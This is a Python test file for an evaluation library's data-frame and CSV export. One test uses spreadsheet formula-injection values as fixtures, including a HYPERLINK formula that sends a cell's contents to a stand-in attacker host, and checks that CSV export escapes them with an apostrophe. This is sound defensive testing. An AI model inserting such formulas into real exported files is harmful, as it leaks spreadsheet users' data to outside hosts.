"""Rows of results in data frames, and in files that spreadsheets open."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from sigwire.evaluate.cell import Cell
from sigwire.evaluate.result import EvaluationResult
from tests.evaluate.reports.pages import mixed_result
from tests.evaluate.runs import failed_cell, make_result, scored_cell


def uneven_result() -> EvaluationResult:
    """Return a result whose records have other fields, lists, and no output."""
    cells = [
        scored_cell(1, outputs={"answer": "a", "tags": ["x"], "count": 3}),
        scored_cell(0.5, outputs={"answer": "b", "reason": {"why": None}}, subscores={"f1": 0.25}),
        failed_cell("program", score=0.0),
        failed_cell("provider", "LMServerError"),
    ]
    return make_result(cells)


@pytest.mark.long
@pytest.mark.parametrize("result", [uneven_result(), mixed_result()], ids=["uneven", "mixed"])
def test_rows_load_into_pandas_and_polars_with_the_same_columns(result: EvaluationResult) -> None:
    pandas = pytest.importorskip("pandas", reason="pandas is of the dev extra")
    polars = pytest.importorskip("polars", reason="polars is of the dev extra")
    rows = result.rows()
    first, second = pandas.DataFrame(rows), polars.DataFrame(rows, infer_schema_length=None)
    assert list(first.columns) == second.columns == list(rows[0])
    assert len(first) == len(second) == len(result.records)
    assert first["score.exact"].mean() == pytest.approx(second["score.exact"].mean())
    assert second["outputs.answer"].to_list() == [row["outputs.answer"] for row in rows]
    assert second["id"].dtype == polars.String
    assert second["seconds"].dtype == polars.Float64


def test_formula_in_a_csv_cell_starts_with_an_apostrophe_and_numbers_are_untouched(tmp_path: Path) -> None:
    link = '=HYPERLINK("https://evil.example/?" & A1, "click")'
    cells = [Cell(-0.5, outputs={"answer": link, "count": -7, "ratio": 1.5}, requests=1)]
    result = make_result(cells, fields=[{"question": "@SUM(A1)", "answer": "-1+2"}])
    result.to_csv(tmp_path / "rows.csv")
    with open(tmp_path / "rows.csv", encoding="utf-8", newline="") as file:
        (row,) = csv.DictReader(file)
    assert row["outputs.answer"] == f"'{link}"
    assert (row["inputs.question"], row["labels.answer"]) == ("'@SUM(A1)", "'-1+2")
    assert (row["score.exact"], row["outputs.count"], row["outputs.ratio"]) == ("-0.5", "-7", "1.5")
